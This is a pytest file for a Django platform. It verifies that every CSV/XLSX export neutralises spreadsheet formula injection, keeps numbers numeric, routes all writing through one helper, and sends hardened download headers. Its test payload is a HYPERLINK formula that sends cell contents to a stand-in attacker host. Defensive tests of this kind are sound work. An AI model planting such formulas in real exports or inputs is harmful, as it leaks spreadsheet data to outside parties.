"""Issue 16 item 9: every CSV/XLSX cell the platform writes is neutralised by one helper.

Before the fix the audit CSV wrote a username like ``=HYPERLINK(...)`` raw, the monthly report's
headings went through openpyxl unescaped, and three modules had their own csv/openpyxl writers.
"""

from __future__ import annotations

import csv
import io
import re
import urllib.request
from datetime import date
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from regulator import exports
from regulator.audit import record_event
from regulator.choices import Role
from tests import factories as f

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", EVIL])
def test_formula_triggers_get_an_apostrophe(value):
    assert exports.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [1, -1, 2.5, -3.25, None, True, date(2026, 1, 1), "常熟", "a=b", "", "1-2"])
def test_numbers_stay_numbers_and_harmless_text_is_unchanged(value):
    assert exports.neutralise(value) == value


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _audit_csv(client) -> list[list[str]]:
    response = client.get("/accounts/security/audit/export.csv")
    assert response.status_code == 200
    return _csv(b"".join(response.streaming_content).decode("utf-8"))


def test_audit_csv_neutralises_a_username_formula(world):
    record_event(event="auth.login_failed", outcome="failure", detail={"username": EVIL})
    client = Client()
    client.force_login(world.auditor)
    rows = _audit_csv(client)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert not any(cell.startswith(exports.FORMULA_TRIGGERS) for cell in cells)


def test_enterprise_xlsx_neutralises_text_and_keeps_numbers(world):
    world.here.name = "=1+2"
    world.here.legal_representative = "@cmd"
    world.here.employees = 42
    world.here.save()
    client = Client()
    client.force_login(world.inspector)
    response = client.get("/enterprises/export.xlsx")
    ws = load_workbook(io.BytesIO(response.content)).active
    rows = list(ws.iter_rows(values_only=False))
    cells = {c.value: c for row in rows for c in row}
    assert "'=1+2" in cells and cells["'=1+2"].data_type == "s"
    assert "'@cmd" in cells
    assert 42 in cells and cells[42].data_type == "n"
    assert not any(c.data_type == "f" for row in rows for c in row)


def test_monthly_report_xlsx_neutralises_every_cell(db):
    from enterprises.reports.data import Column, MonthlyReport, Table
    from enterprises.reports.xlsx import write_xlsx

    region = f.region_tree()["county"]
    region.name = "=EVIL()"
    now = timezone.now()
    table = Table(
        key="t",
        title="-标题",
        columns=[Column(label="+列", kind="text"), Column(label="数", kind="int")],
        rows=[["=A1*2", 7]],
        note="@note",
        empty_text="",
    )
    report = MonthlyReport(
        region=region,
        park=None,
        month=date(2026, 10, 1),
        start=date(2026, 10, 1),
        end=date(2026, 10, 31),
        generated_at=now,
        reference_at=now,
        tables=[table],
        indicators={},
    )
    wb = load_workbook(io.BytesIO(write_xlsx(report)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'=A1*2" in texts and "'+列" in texts and "'@note" in texts
    assert not any(t.startswith(exports.FORMULA_TRIGGERS) for t in texts), texts
    assert not any(c.data_type == "f" for c in cells)
    assert 7 in [c.value for c in cells]


WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|\.to_excel\(|\.to_csv\(|xlsxwriter")


def test_no_second_csv_or_xlsx_writer_outside_the_export_helper():
    """Platform code writes CSV/XLSX only through regulator/exports.py (benches and tests excluded:
    they write input files, not exports)."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "tests/", "bench/", "docs/")) or "/migrations/" in rel:
            continue
        if rel == "regulator/exports.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITERS.search(line) and not line.lstrip().startswith("#"):
                offenders.append(f"{rel}:{number}: {line.strip()}")
    assert not offenders, "\n".join(offenders)


# --- real HTTP ------------------------------------------------------------------------------


@pytest.fixture
def server(live_server):
    from urllib.parse import urlparse

    media = getattr(live_server.thread.httpd.get_app(), "application", None)
    if media is not None and isinstance(getattr(media, "base_url", None), tuple) and media.base_url.path == b"":
        media.base_url = urlparse("/__no_media__/")
    return live_server


@pytest.mark.django_db(transaction=True)
def test_audit_csv_over_real_http(server):
    auditor = f.user("http_auditor", Role.AUDITOR)
    record_event(event="auth.login_failed", outcome="failure", detail={"username": EVIL})
    client = Client()
    client.force_login(auditor)
    session = client.cookies["sessionid"].value
    request = urllib.request.Request(
        f"{server.url}/accounts/security/audit/export.csv", headers={"Cookie": f"sessionid={session}"}
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        assert response.status == 200
        assert response.headers["Content-Type"].startswith("text/csv")
        rows = _csv(response.read().decode("utf-8"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells


def test_audit_csv_is_sent_as_a_hardened_download(world):
    """The auditor's export carries the headers every file the platform sends carries."""
    client = Client()
    client.force_login(world.auditor)
    response = client.get("/accounts/security/audit/export.csv")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log.csv"')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
